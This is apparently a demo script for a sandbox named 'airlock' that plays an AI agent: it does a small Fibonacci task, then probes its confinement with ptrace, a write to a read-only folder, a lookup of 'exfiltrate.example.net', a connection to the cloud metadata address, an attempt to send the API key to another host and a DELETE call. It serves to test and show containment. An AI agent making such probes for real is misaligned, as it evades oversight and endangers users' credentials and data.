"""A stand-in for an AI agent, used by scripts/demo: it reads its task, writes code into
the workspace, runs it, and probes the sandbox the way untrusted code might.
Everything it does shows up on airlock's audit stream."""
import ctypes
import os
import subprocess
import sys

task = open("/workspace/task/TASK.md").read().strip()
print(f"agent: task: {task}")

os.makedirs("/workspace/out", exist_ok=True)
with open("/workspace/out/fib.py", "w") as f:
    f.write("a, b = 0, 1\nfor _ in range(20):\n    a, b = b, a + b\nprint(a)\n")
result = subprocess.run([sys.executable, "/workspace/out/fib.py"], capture_output=True, text=True)
print(f"agent: fib(20) = {result.stdout.strip()}")
with open("/workspace/out/answer.txt", "w") as f:
    f.write(result.stdout)

libc = ctypes.CDLL(None, use_errno=True)
denied = libc.ptrace(0, 0, 0, 0) == -1
print(f"agent: ptrace denied by the sandbox: {denied}")
print(f"agent: running as uid {os.getuid()} with OPENAI_API_KEY={'set' if os.environ.get('OPENAI_API_KEY') else 'unset'}")
try:
    open("/workspace/task/TASK.md", "a").write("tampered\n")
    print("agent: could modify its read-only task folder (unexpected)")
except OSError as e:
    print(f"agent: task folder is read-only: {e.strerror}")

# Network probes the policy refuses without airlock sending anything anywhere: a name
# outside the allowlist (DNS answers REFUSED) and the cloud metadata address.
import socket
try:
    socket.getaddrinfo("exfiltrate.example.net", 443)
    print("agent: resolved a host outside the allowlist (unexpected)")
except socket.gaierror:
    print("agent: exfiltrate.example.net does not resolve in the sandbox")
try:
    socket.create_connection(("169.254.169.254", 80), timeout=10)
    print("agent: reached the metadata address (unexpected)")
except OSError as e:
    print(f"agent: 169.254.169.254 refused: {e.strerror}")

# HTTPS through airlock's MITM: the guest trusts the VM's CA, and holds only a placeholder
# for the API key; the proxy swaps in the real key for api.openai.com alone.
import json
import urllib.error
import urllib.request

key = os.environ.get("OPENAI_API_KEY", "")
print(f"agent: OPENAI_API_KEY in the sandbox is a placeholder: {key.startswith('AIRLOCK_PLACEHOLDER_')}")


def call(url, method="POST", body=None):
    data = json.dumps(body or {}).encode()
    request = urllib.request.Request(url, data=data, method=method, headers={
        "Authorization": f"Bearer {key}", "Content-Type": "application/json"})
    try:
        with urllib.request.urlopen(request, timeout=60) as response:
            return response.status, json.loads(response.read())
    except urllib.error.HTTPError as e:
        return e.code, json.loads(e.read() or b"{}")
    except OSError as e:
        return None, {"error": str(e)}


api = f"api.openai.com:{os.environ.get('API_PORT', '443')}"
other = f"api.anthropic.com:{os.environ.get('API_PORT', '443')}"
status, reply = call(f"https://{api}/v1/chat/completions",
                     body={"model": "m", "messages": [{"role": "user", "content": task}]})
print(f"agent: LLM answered {status}: {reply.get('choices', [{}])[0].get('message', {}).get('content', reply)}")
status, reply = call(f"https://{other}/v1/messages", body={"exfiltrate": True})
print(f"agent: sending the OpenAI key to api.anthropic.com: {status} {reply.get('reason')}")
status, reply = call(f"https://{api}/v1/files/file-1", method="DELETE")
print(f"agent: DELETE on the API: {status} {reply.get('reason')}")
